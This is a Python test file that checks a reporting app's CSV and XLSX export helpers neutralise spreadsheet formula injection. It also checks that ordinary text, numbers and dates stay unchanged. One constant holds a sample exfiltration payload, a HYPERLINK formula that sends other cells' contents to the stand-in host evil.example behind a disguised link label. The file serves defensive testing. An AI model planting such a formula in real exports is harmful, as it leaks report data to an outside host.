"""The one rule for text in exported spreadsheets: what people wrote never runs as a formula."""

from __future__ import annotations

import io
import zipfile
from datetime import date, datetime, timedelta, timezone

import pytest
from openpyxl import Workbook, load_workbook

from lapor.web.spreadsheets import FORMULA_LEADS, csv_cell, xlsx_row

ATTACK = '=HYPERLINK("http://evil.example/?d="&J3&K3,"Lihat bukti foto")'


@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_text_starting_like_a_formula_gets_a_quote(lead: str) -> None:
    assert lead in FORMULA_LEADS
    assert csv_cell(f"{lead}1+1") == f"'{lead}1+1"


@pytest.mark.parametrize(
    "value",
    [
        "Lampu jalan mati",
        "Harga 1+1=2 di loket",  # a formula sign inside the text is not one
        " =tidak di awal",
        "–",  # the en dash our figures show for "none": not a minus
        "'sudah dikutip",
        "",
        -3,  # a number we produce stays a number
        2.5,
        date(2026, 3, 1),
    ],
)
def test_csv_leaves_everything_else_as_it_is(value: object) -> None:
    assert csv_cell(value) == value


def test_csv_writes_nothing_for_none() -> None:
    assert csv_cell(None) == ""


def test_csv_moments_are_iso_to_the_second_with_their_offset() -> None:
    """They were written as Python prints them: `2026-03-01 09:30:12.345678`, no zone."""
    wita = timezone(timedelta(hours=8))
    assert csv_cell(datetime(2026, 3, 1, 9, 30, 12, 345678, wita)) == "2026-03-01T09:30:12+08:00"


def test_xlsx_holds_such_text_as_text_exactly_as_written() -> None:
    texts = [ATTACK, "+62 812", "-1+1", "@SUM(1+1)", "\tgeser", "#N/A", "Biasa saja"]
    wita = timezone(timedelta(hours=8))
    moment = datetime(2026, 3, 1, 9, 30, 12, 5, wita)
    values: list[object] = [*texts, -3, None, date(2026, 3, 1), moment]
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet("Laporan")
    sheet.append(xlsx_row(sheet, values))
    out = io.BytesIO()
    workbook.save(out)
    xml = zipfile.ZipFile(out).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml
    assert 't="e"' not in xml  # "#N/A" is not an error value either
    [row] = load_workbook(out).active.iter_rows(values_only=True)
    # Numbers and dates as before (openpyxl reads a date cell back as midnight of that day); a
    # moment as the office's wall clock, to the second.
    assert list(row) == [*texts, -3, None, datetime(2026, 3, 1), datetime(2026, 3, 1, 9, 30, 12)]
